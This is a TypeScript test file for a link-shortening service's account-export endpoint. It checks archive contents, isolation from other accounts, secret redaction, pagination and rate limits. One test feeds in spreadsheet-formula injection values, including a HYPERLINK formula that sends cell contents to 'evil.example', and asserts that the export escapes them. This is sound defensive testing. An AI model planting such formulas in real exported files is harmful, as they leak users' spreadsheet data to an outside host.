import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { sql } from "@hoplog/platform/postgres/sql.js";
import { execute } from "../../kernel/database/statements.ts";
import { defaultRates } from "../../kernel/limits/rates.ts";
import { useVisits } from "../../testing/caps.ts";
import { clickOn, conversionsWritten, report } from "../../testing/conversions.ts";
import { insertClicks, insertMisses } from "../../testing/clicks.ts";
import { listingIn, operate } from "../../testing/listings.ts";
import { call, makeLink, openTestApi, signUp, type TestApi, type TestUser } from "../../testing/testApi.ts";
import { unzip } from "../../testing/unzip.ts";

let api: TestApi;
beforeAll(async () => {
  api = await openTestApi();
});
afterAll(() => api.close());

async function exported(user: TestUser): Promise<Record<string, string>> {
  const headers = { authorization: `Bearer ${user.accessToken}` };
  return unzip((await api.app.inject({ url: "/api/auth/export", headers })).rawPayload);
}

describe("GET /api/auth/export", () => {
  it("gives everything of the account, and nothing of others, as one archive", async () => {
    const [user, other] = [await signUp(api), await signUp(api)];
    const group = await call(api, "POST", "/api/groups", { user, body: { name: 'The "press", all' } });
    const groupId = (group.body["data"] as { _id: string })._id;
    const link = await makeLink(api, user, { name: "Kept, with a comma", groupId });
    await call(api, "PUT", `/api/urls/${link.id}`, { user, body: { name: "Renamed" } });
    const options = { expiresAt: "2030-01-01T00:00:00.000Z", maxClicks: 3, redirectStatus: 307 };
    await call(api, "PUT", `/api/urls/${link.id}`, { user, body: options });
    await useVisits(api, link.id, 1);
    const foreign = await makeLink(api, other, { name: "Foreign" });
    await call(api, "POST", "/api/sql/queries", { user, body: { name: "By day", text: "SELECT 1" } });
    await call(api, "POST", "/api/sql/queries", { user: other, body: { name: "Foreign", text: "SELECT 2" } });
    await call(api, "POST", "/api/presets/views", { user, body: { name: "Posters", query: "tags=Poster" } });
    const scopes = ["links:create"];
    const made = await call(api, "POST", "/api/keys", { user, body: { name: "Deploy script", scopes } });
    const { key } = made.body["data"] as { key: string };
    await call(api, "POST", "/api/keys", { user: other, body: { name: "Foreign key", scopes } });
    await call(api, "POST", "/api/presets/views", { user: other, body: { name: "Foreign", query: "q=foreign" } });
    await call(api, "POST", "/api/presets/utm-templates", { user, body: { name: "Mail", query: "utm_medium=email" } });
    await call(api, "POST", "/api/presets/qr-designs", { user, body: { name: "Posters", query: "shape=dots" } });
    await call(api, "PUT", "/api/utm/rules", { user, body: { lowerCase: true } });
    const at = "2026-05-06T00:00:00.000Z";
    await insertClicks(api, [
      { ownerId: user.id, linkId: link.id, at, country: "DE" },
      { ownerId: user.id, linkId: link.id, at, isBot: true },
      { ownerId: other.id, linkId: foreign.id, at },
    ]);
    const numberOf = async (owner: TestUser, name: string) => {
      await call(api, "POST", "/api/domains", { user: owner, body: { name } });

      return (
        (await api.services.reads.query<{ number: number }>(sql`SELECT number FROM domain WHERE name = ${name}`))
          .rows[0]?.number ?? -1
      );
    };
    const domain = await numberOf(user, "go.exported.example");
    const foreignDomain = await numberOf(other, "go.nobodys.example");
    await insertMisses(api, [
      { at, code: "lost", domain, host: "go.exported.example" },
      { at, code: "nobodys-either", domain: foreignDomain },
      { ownerId: user.id, linkId: link.id, at, code: "=1+1", path: "/off/" },
      { ownerId: other.id, linkId: foreign.id, at, code: "foreign" },
      { at, code: "nobodys" },
    ]);
    const visited = { ordinal: 0, source: "shlink", is_dated: true, quarter: 1_600_000_200, country: "DE" };
    const imported = [
      { ...visited, owner_id: user.id, link_id: link.id, visits: 7 },
      { ...visited, owner_id: other.id, link_id: foreign.id, visits: 9 },
    ];
    await api.services.clickhouse.insert({ table: "imported_visits", format: "JSONEachRow", values: imported });
    const clickId = await clickOn(api, user, link.id, { country: "AT" });
    await report(api, user, { clickId, type: "sale", name: "Order", amount: 4900, currency: "EUR" });
    await conversionsWritten(api, user);
    const response = await api.app.inject({
      url: "/api/auth/export",
      headers: { authorization: `Bearer ${user.accessToken}` },
    });
    expect(response.statusCode).toBe(200);
    expect(response.headers["content-type"]).toBe("application/zip");
    expect(response.headers["content-disposition"]).toMatch(/^attachment; filename="hoplog-\d{4}-\d\d-\d\d\.zip"$/);
    const files = await unzip(response.rawPayload);
    expect(Object.keys(files).toSorted()).toEqual([
      "account.json",
      "alarms.json",
      "api-keys.json",
      "audit.csv",
      "bot-rules.json",
      "campaign-parameters.json",
      "click-retention.json",
      "clicks.csv",
      "conversions.csv",
      "domains.json",
      "events.json",
      "exports.json",
      "groups.csv",
      "imported-visits.csv",
      "imports.json",
      "limits.json",
      "link-jobs.json",
      "links.csv",
      "links.jsonl",
      "misses.csv",
      "notes.csv",
      "outlets.json",
      "qr-designs.json",
      "queries.json",
      "reports.json",
      "sessions.json",
      "shares.json",
      "tags.csv",
      "views.json",
      "webhook-messages.jsonl",
      "webhooks.json",
    ]);
    expect(JSON.parse(files["account.json"] ?? "")).toMatchObject({ id: user.id, email: user.email });
    expect(JSON.parse(files["sessions.json"] ?? "")).toMatchObject([{ browser: "lightMyRequest", isCurrent: true }]);
    expect(files["links.csv"]?.split("\r\n")).toEqual([
      expect.stringMatching(
        /^id,name,.*,options,listed URL,listing reason,tags,note,external id,archived,favourite,destination title,.*since$/,
      ),
      expect.stringContaining(
        `${link.id},Renamed,${link.code},http://localhost:3001/${link.code},https://example.com/,${groupId},true,2,3,`,
      ),
      "",
    ]);
    expect(JSON.parse(files["domains.json"] ?? "")).toMatchObject([{ name: "go.exported.example" }]);
    expect(JSON.parse(files["queries.json"] ?? "")).toMatchObject([{ name: "By day", text: "SELECT 1" }]);
    expect(JSON.parse(files["views.json"] ?? "")).toMatchObject([{ name: "Posters", text: "tags=Poster" }]);
    expect(JSON.parse(files["qr-designs.json"] ?? "")).toMatchObject([{ name: "Posters", text: "shape=dots" }]);
    expect(JSON.parse(files["campaign-parameters.json"] ?? "")).toMatchObject({
      rules: { lowerCase: true, allowed: {} },
      templates: [{ name: "Mail", text: "utm_medium=email" }],
    });
    expect(JSON.parse(files["api-keys.json"] ?? "")).toMatchObject([{ name: "Deploy script", scopes }]);
    expect(JSON.stringify(files)).not.toContain(key.slice(10));
    expect(files["groups.csv"]).toContain(`${groupId},"The ""press"", all",1,`);
    const events = JSON.parse(files["events.json"] ?? "") as { type: string }[];
    expect(events.map(({ type }) => type)).toEqual([
      "UserRegistered",
      "UserSignedIn",
      "GroupCreated",
      "LinkCreated",
      "LinkRenamed",
      "LinkOptionsChanged",
      "DomainAdded",
    ]);
    const shown = JSON.stringify({ ...options, visitsLeft: 2 });
    expect(files["links.csv"]).toContain(JSON.stringify(shown).replaceAll('\\"', '""'));
    expect(events.find(({ type }) => type === "LinkOptionsChanged")).toMatchObject({ data: { from: {}, to: options } });
    expect(Object.values(files).join()).not.toContain("capNumber");
    const clicks = files["clicks.csv"]?.trim().split("\n") ?? [];
    expect(clicks).toHaveLength(4);
    expect(clicks[0]).toMatch(/^link_id,at,.*,country,.*,user_agent,languages,bot_rules,domain,revision,rule,arm\r?$/);
    const conversions = files["conversions.csv"]?.trim().split("\n") ?? [];
    expect(conversions).toHaveLength(2);
    expect(conversions[0]).toMatch(
      /^link_id,conversion_id,click_id,type,name,amount,refunded,currency,at,converted_at,reported_at,matched,country,/,
    );
    expect(conversions[1]).toMatch(new RegExp(`^${link.id},.*,sale,Order,4900,0,EUR,.*,true,AT,`));
    const visits = files["imported-visits.csv"]?.trim().split("\n") ?? [];
    expect(visits).toHaveLength(2);
    expect(visits[0]).toMatch(/^link_id,import_id,source,is_dated,quarter,visits,is_bot,country,/);
    expect(visits[1]).toMatch(new RegExp(`^${link.id},.*,shlink,true,2020-09-13 12:30:00,7,false,DE,`));
    const misses = files["misses.csv"]?.trim().split("\n") ?? [];
    expect(misses[0]).toMatch(/^link_id,at,code,reason,host,path,country,.*,user_agent,languages,/);
    expect(misses.slice(1)).toEqual([
      expect.stringContaining(",2026-05-06 00:00:00.000,lost,unknown,go.exported.example,/lost,"),
      expect.stringContaining(`${link.id},2026-05-06 00:00:00.000,"'=1+1",inactive,hop.example,/off/,`),
    ]);
    expect(JSON.stringify(files)).not.toContain("nobodys");
    expect(JSON.stringify(files)).not.toMatch(/foreign/i);
    expect(JSON.stringify(files)).not.toContain(foreign.id);
  });

  it("is given to a key that may export and nothing else, and to no other", async () => {
    const user = await signUp(api);
    await call(api, "POST", "/api/presets/views", { user, body: { name: "Mine", query: "q=a" } });
    const withKey = async (scopes: string[]) => {
      const { body } = await call(api, "POST", "/api/keys", { user, body: { name: "Backup", scopes } });
      const authorization = `Bearer ${(body["data"] as { key: string }).key}`;
      return api.app.inject({ method: "GET", url: "/api/auth/export", headers: { authorization } });
    };
    const files = await unzip((await withKey(["export"])).rawPayload);
    expect(files["views.json"]).toContain("Mine");
    expect(files["api-keys.json"]).toContain("Backup");
    expect((await withKey(["links:write", "stats:read", "account:read"])).statusCode).toBe(403);
  });

  it("says of a listed link which URL is listed, and why", async () => {
    const user = await signUp(api);
    const link = await makeLink(api, user, { originalUrl: "https://listed.example/login" });
    await operate(api, "block", "listed.example", "--reason", "Phishing, of a bank");
    await expect.poll(() => listingIn(api, user, link.id)).toBeDefined();
    expect((await exported(user))["links.csv"]).toMatch(
      /,https:\/\/listed\.example\/login,"Phishing, of a bank",,,,,false,,,\r\n$/,
    );
  });

  it("holds tags, and what links are found by, of archived links too", async () => {
    const user = await signUp(api);
    const link = await makeLink(api, user, { tags: ["Press", "=1+1"], note: "Two\nlines", externalId: "cms-1" });
    await call(api, "PUT", `/api/urls/${link.id}`, { user, body: { isArchived: true, isFavourite: true } });
    await api.services.reads.query(
      sql`INSERT INTO destination (owner_id, url, added_at, due_at, checked_at, title, dead_since)
       VALUES (${user.id}, 'https://example.com/', now(), now() + interval '1 day', now(), '=1+1', '2026-05-06T00:00:00Z')`,
    );
    const files = await exported(user);
    expect(files["links.csv"]).toMatch(
      /,"'=1\+1,Press","Two\nlines",cms-1,\d{4}-[^,]+Z,true,"?'=1\+1"?,,2026-05-06T00:00:00.000Z\r\n$/,
    );
    expect(files["tags.csv"]).toMatch(
      /^id,name,colour,links,created\r\n[^,]+,'?"?'?=1\+1"?,[a-z]+,1,.*\r\n[^,]+,Press,[a-z]+,1,/,
    );
    expect(files["events.json"]).toContain('"TagCreated"');
    expect(files["events.json"]).toContain('"LinkFavourited"');
  });

  it("holds webhooks' messages with what became of them, and no secret", async () => {
    const [user, other] = [await signUp(api), await signUp(api)];
    const secrets: string[] = [];
    for (const [who, name] of [
      [user, "Mine"],
      [other, "Foreign"],
    ] as const) {
      const receiver = { url: "https://hooks.example/", name, events: ["link.created"] };
      const { body } = await call(api, "POST", "/api/webhooks", { user: who, body: receiver });
      const { _id: id, secret } = body["data"] as { _id: string; secret: string };
      secrets.push(secret);
      await call(api, "PATCH", `/api/webhooks/${id}`, { user: who, body: { paused: true } });
      // Inserts more rows than the export reads at a time.
      await execute(
        api.services.orm.em.fork(),
        sql`WITH message AS (INSERT INTO webhook_message (id, webhook_id, owner_id, lane, type, body, created_at, state)
           SELECT gen_random_uuid(), ${id}, ${who.id}, gen_random_uuid(), 'test', json_build_object('type', 'test', 'data',
             ${name}::text || ' ' || n),
             now(), 'failed' FROM generate_series(1, 150) AS n RETURNING id)
         INSERT INTO webhook_attempt (message_id, at, milliseconds, status, response) SELECT id, now(), 12, 500, 'We are closed'
           FROM message`,
      );
    }
    const files = await exported(user);
    const lines = (files["webhook-messages.jsonl"] ?? "").trim().split("\n");
    const messages = lines.map((line) => JSON.parse(line) as { body: { data: string } });
    expect(messages.map(({ body }) => body.data)).toEqual(Array.from({ length: 150 }, (_, i) => `Mine ${i + 1}`));
    expect(messages[0]).toMatchObject({
      type: "test",
      state: "failed",
      createdAt: expect.stringMatching(/Z$/),
      endedAt: null,
      attempts: [{ at: expect.stringMatching(/Z$/), status: 500, error: null, response: "We are closed" }],
    });
    for (const secret of secrets) expect(JSON.stringify(files)).not.toContain(secret.slice(6));
  });

  it("holds domains, and the short URLs of links that are there", async () => {
    const user = await signUp(api);
    await call(api, "POST", "/api/domains", { user, body: { name: "go.kept.example" } });
    const link = await makeLink(api, user, { domain: "go.kept.example", shortUrl: "a/b" });
    const files = await exported(user);
    expect(JSON.parse(files["domains.json"] ?? "")).toMatchObject([{ name: "go.kept.example", state: "pending" }]);
    expect(files["links.csv"]).toContain(`${link.id},Example,a/b,https://go.kept.example/a/b,`);
    expect(files["events.json"]).toContain("DomainAdded");
  });

  it("holds no text that a spreadsheet would run, whoever wrote it", async () => {
    const user = await signUp(api);
    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Totals")';
    const link = await makeLink(api, user, { name: "=1+1" });
    await call(api, "POST", "/api/groups", { user, body: { name: "@SUM(A1)" } });
    await insertClicks(api, [
      { ownerId: user.id, linkId: link.id, at: "2026-05-06T00:00:00.000Z", utm_source: formula, city: "-2+3" },
      { ownerId: user.id, linkId: link.id, at: "2026-05-06T00:00:01.000Z", utm_source: "+1;\n=1", referrer: "\t=1" },
    ]);
    const files = await exported(user);
    expect(files["links.csv"]).toContain(`${link.id},"'=1+1",`);
    expect(files["groups.csv"]).toContain(`,"'@SUM(A1)",`);
    expect(files["clicks.csv"]).toContain(`,"'${formula.replaceAll('"', '""')}",`);
    expect(files["clicks.csv"]).toContain(`,"'-2+3",`);
    expect(files["clicks.csv"]).toContain(`,"'+1;\n'=1",`);
    for (const [name, content] of Object.entries(files).filter(([name]) => name.endsWith(".csv")))
      expect({ name, formulas: content.split(/(?:^|[,;\t\r\n])"?/).filter((cell) => /^[=+\-@]/.test(cell)) }).toEqual({
        name,
        formulas: [],
      });
  });

  it("is bigger than one page of anything where the account is", async () => {
    const user = await signUp(api);
    await execute(
      api.services.orm.em.fork(),
      sql`INSERT INTO link (id, owner_id, name, code, original_url, is_active, revision, created_at, updated_at)
       SELECT gen_random_uuid(), ${user.id}, 'Link ' || n, 'export-' || n, 'https://example.com/', true, 1, now(), now()
       FROM generate_series(1, 2500) AS n`,
    );
    const response = await api.app.inject({
      url: "/api/auth/export",
      headers: { authorization: `Bearer ${user.accessToken}` },
    });
    const files = await unzip(response.rawPayload);
    const codes = new Set(
      files["links.csv"]
        ?.trim()
        .split("\r\n")
        .slice(1)
        .map((line) => line.split(",")[2]),
    );
    expect(codes.size).toBe(2500);
  });

  it("is given a few times an hour, and says when to come again", async () => {
    const limited = await openTestApi({
      settings: { rates: { ...defaultRates, export: { points: 2, seconds: 60 * 60 } } },
    });
    try {
      const [user, other] = [await signUp(limited), await signUp(limited)];
      const requestExport = (who: TestUser) =>
        limited.app.inject({ url: "/api/auth/export", headers: { authorization: `Bearer ${who.accessToken}` } });
      expect([(await requestExport(user)).statusCode, (await requestExport(user)).statusCode]).toEqual([200, 200]);
      const refused = await requestExport(user);
      expect(refused.statusCode).toBe(429);
      expect(refused.json()).toMatchObject({ success: false, error: { type: "RATE_LIMIT_ERROR" } });
      expect(Number(refused.headers["retry-after"])).toBeGreaterThan(3000);
      expect((await requestExport(other)).statusCode).toBe(200);
    } finally {
      await limited.close();
    }
  });

  it("is made one at a time for an account, until it has been read or its reader has gone", async () => {
    const limited = await openTestApi({ settings: { rates: defaultRates } });
    try {
      const [user, other] = [await signUp(limited), await signUp(limited)];
      await execute(
        limited.services.orm.em.fork(),
        sql`INSERT INTO link (id, owner_id, name, code, original_url, is_active, revision, created_at, updated_at)
         SELECT gen_random_uuid(), ${user.id}, encode(sha256(n::text::bytea), 'hex'), 'slow-' || n,
           'https://example.com/' || md5(n::text), true, 1, now(), now()
         FROM generate_series(1, 30000) AS n`,
      );
      const address = await limited.app.listen({ port: 0, host: "127.0.0.1" });
      const url = `${address}/api/auth/export`;
      const requestExport = (who: TestUser, signal?: AbortSignal) =>
        fetch(url, { headers: { authorization: `Bearer ${who.accessToken}` }, ...(signal && { signal }) });
      const leaving = new AbortController();
      // The test does not read the response body, so the export stays open.
      expect((await requestExport(user, leaving.signal)).status).toBe(200);
      const second = await requestExport(user);
      expect([second.status, second.headers.get("retry-after")]).toEqual([429, "30"]);
      const others = await requestExport(other);
      expect(others.status).toBe(200);
      await others.arrayBuffer();
      leaving.abort();
      await expect
        .poll(
          async () => {
            const again = await requestExport(user, AbortSignal.timeout(20_000));
            await again.arrayBuffer();
            return again.status;
          },
          { timeout: 60_000 },
        )
        .toBe(200);
    } finally {
      await limited.close();
    }
  });

  it("needs a token", async () => {
    expect((await call(api, "GET", "/api/auth/export")).status).toBe(401);
  });
});
